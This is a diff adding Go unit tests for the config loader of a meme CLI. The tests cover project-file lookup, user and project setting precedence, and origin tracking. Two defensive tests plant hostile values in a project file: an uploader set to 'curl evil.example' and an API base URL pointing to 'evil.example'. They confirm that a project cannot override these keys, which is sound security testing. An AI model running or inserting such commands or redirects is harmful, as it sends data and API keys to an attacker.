@@ -0,0 +1,120 @@
+package config_test
+
+import (
+	"os"
+	"path/filepath"
+	"testing"
+
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+
+	"github.com/dedene/memelink-cli/internal/config"
+)
+
+func TestFindProjectFile(t *testing.T) {
+	root := t.TempDir()
+	nested := filepath.Join(root, "a", "b", "c")
+	require.NoError(t, os.MkdirAll(nested, 0o755))
+
+	got, err := config.FindProjectFile(nested)
+	require.NoError(t, err)
+	assert.Empty(t, got, "no project file anywhere above a temp dir")
+
+	project := filepath.Join(root, "a", config.ProjectFileName)
+	require.NoError(t, os.WriteFile(project, []byte("{}"), 0o644))
+
+	got, err = config.FindProjectFile(nested)
+	require.NoError(t, err)
+	assert.Equal(t, project, got)
+
+	closer := filepath.Join(nested, config.ProjectFileName)
+	require.NoError(t, os.WriteFile(closer, []byte("{}"), 0o644))
+
+	got, err = config.FindProjectFile(nested)
+	require.NoError(t, err)
+	assert.Equal(t, closer, got, "nearest file wins")
+}
+
+func TestLoadEffective_ProjectOverUser(t *testing.T) {
+	dir := t.TempDir()
+	userPath := filepath.Join(dir, "user", "config.json")
+
+	fa := false
+	require.NoError(t, config.Save(userPath, &config.Config{
+		DefaultFormat: "png",
+		DefaultFont:   "arial",
+		Safe:          &fa,
+		Presets:       map[string]config.Preset{"standup": {Template: "fine"}, "retro": {Template: "drake"}},
+	}))
+
+	repo := filepath.Join(dir, "repo")
+	sub := filepath.Join(repo, "docs")
+	require.NoError(t, os.MkdirAll(sub, 0o755))
+
+	projectPath := filepath.Join(repo, config.ProjectFileName)
+	require.NoError(t, os.WriteFile(projectPath, []byte(`{
+		// team settings
+		default_font: "impact",
+		safe: true,
+		output_dir: "memes",
+		presets: {standup: {template: "buzz"}},
+	}`), 0o644))
+
+	cfg, err := config.LoadEffective(userPath, sub)
+	require.NoError(t, err)
+
+	assert.Equal(t, "png", cfg.DefaultFormat)
+	assert.Equal(t, "impact", cfg.DefaultFont)
+	require.NotNil(t, cfg.Safe)
+	assert.True(t, *cfg.Safe)
+	assert.Equal(t, filepath.Join(repo, "memes"), cfg.OutputDir, "relative output_dir resolves against the project")
+	assert.Equal(t, "buzz", cfg.Presets["standup"].Template)
+	assert.Equal(t, "drake", cfg.Presets["retro"].Template)
+
+	assert.Equal(t, "file:"+userPath, cfg.Origin("default_format"))
+	assert.Equal(t, "file:"+projectPath, cfg.Origin("default_font"))
+	assert.Equal(t, "file:"+projectPath, cfg.Origin("presets.standup.template"))
+	assert.Equal(t, "file:"+userPath, cfg.Origin("presets.retro"))
+	assert.Empty(t, cfg.Origin("auto_copy"))
+}
+
+func TestLoadEffective_NoProject(t *testing.T) {
+	cfg, err := config.LoadEffective(filepath.Join(t.TempDir(), "missing.json"), t.TempDir())
+	require.NoError(t, err)
+	assert.Empty(t, cfg.DefaultFormat)
+}
+
+func TestLoadEffective_BadProject(t *testing.T) {
+	dir := t.TempDir()
+	require.NoError(t, os.WriteFile(filepath.Join(dir, config.ProjectFileName), []byte("{nope"), 0o644))
+
+	_, err := config.LoadEffective(filepath.Join(dir, "missing.json"), dir)
+	require.Error(t, err)
+	assert.Contains(t, err.Error(), config.ProjectFileName)
+}
+
+func TestLoadEffective_ProjectUploaderIgnored(t *testing.T) {
+	dir := t.TempDir()
+	userPath := filepath.Join(dir, "config.json")
+	require.NoError(t, config.Save(userPath, &config.Config{Uploader: "my-upload"}))
+	require.NoError(t, os.WriteFile(filepath.Join(dir, config.ProjectFileName), []byte(`{uploader: "curl evil.example"}`), 0o644))
+
+	cfg, err := config.LoadEffective(userPath, dir)
+	require.NoError(t, err)
+	assert.Equal(t, "my-upload", cfg.Uploader, "a project cannot pick the uploader command")
+	assert.Equal(t, "file:"+userPath, cfg.Origin("uploader"))
+}
+
+func TestLoadEffective_ProjectAPIBaseURLIgnored(t *testing.T) {
+	dir := t.TempDir()
+	userPath := filepath.Join(dir, "config.json")
+	require.NoError(t, config.Save(userPath, &config.Config{APIBaseURL: "https://memes.example.com"}))
+	require.NoError(t, os.WriteFile(filepath.Join(dir, config.ProjectFileName),
+		[]byte(`{api_base_url: "https://evil.example", default_format: "png"}`), 0o644))
+
+	cfg, err := config.LoadEffective(userPath, dir)
+	require.NoError(t, err)
+	assert.Equal(t, "https://memes.example.com", cfg.APIBaseURL, "a project cannot redirect requests (and the API key)")
+	assert.Equal(t, "file:"+userPath, cfg.Origin("api_base_url"))
+	assert.Equal(t, "png", cfg.DefaultFormat, "other project keys still apply")
+}